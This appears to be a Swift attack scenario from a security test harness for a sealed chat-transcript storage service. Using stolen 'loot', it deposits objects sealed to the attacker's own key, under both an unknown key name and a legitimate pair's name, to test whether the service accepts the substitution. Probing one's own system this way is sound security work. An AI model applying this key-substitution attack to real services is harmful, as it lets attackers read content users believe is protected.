import Link
import LinkSocket
import MessageFormat
import Sealing
import Vocabulary

/// Deposits of the attacker's own contacts, sealed to a key of the attacker's: it could read at any time what the keep would take
/// for content of its own.
struct Substitution {
  let link: SocketLink
  let loot: Loot

  func run() async throws {
    guard let offered = try await link.send(IssueSealingKey(instanceID: loot.instance, contentClass: "CHAT_TRANSCRIPTS")) else {
      return Attacker.say(["missing": "a sealing key"])
    }
    // Under a name that the keep does not know, and under that of a pair which it has.
    for name in ["sealing/attacker", offered.name] {
      let own = try SealingPublicKey(der: bytes(ofBase64: loot.ownKey), providerID: offered.providerID, name: name)
      let object = try await deposit(sealedTo: own)
      Attacker.say(["substituted": object, "name": name == offered.name ? "of a pair" : "unknown"])
    }
  }

  private func deposit(sealedTo key: SealingPublicKey) async throws -> String {
    let contact = try await link.send(IssueContactKeys(count: 1))[0]
    let object = try sealed(to: key, SealedObject.id(keyID: contact.id, number: 0), of: "contact-\(contact.id.suffix(36))")
    let deposit = Deposit(
      commit: 0, contactID: "contact-\(contact.id.suffix(36))", initialContactID: "contact-\(contact.id.suffix(36))",
      instanceID: loot.instance, keyID: contact.id, initiatedAt: .now, record: Array("{}".utf8), flowLog: [], objects: [object],
      readers: [])
    _ = try await link.send(
      TakeDeposits(
        outboxID: "attack-\(contact.id)", commits: ["attack-\(contact.id)"], deposits: [deposit], entries: [], pieces: []))
    return object.id
  }

  private func sealed(to key: SealingPublicKey, _ id: String, of contactID: String) throws -> SealedObject {
    let content = Array(#"{"Transcript":[]}"#.utf8)
    let context = SealedObject.context(
      id: id, contentClass: "CHAT_TRANSCRIPTS", contactID: contactID, instanceID: loot.instance)
    var writer = try MessageWriter(to: key, frameLength: .kibibytes64, context: context)
    let start = try writer.append(content)
    return SealedObject(
      id: id, contentClass: "CHAT_TRANSCRIPTS", attachmentID: nil, contentType: "application/json",
      plaintextBytes: content.count, message: start + (try writer.finish()))
  }
}
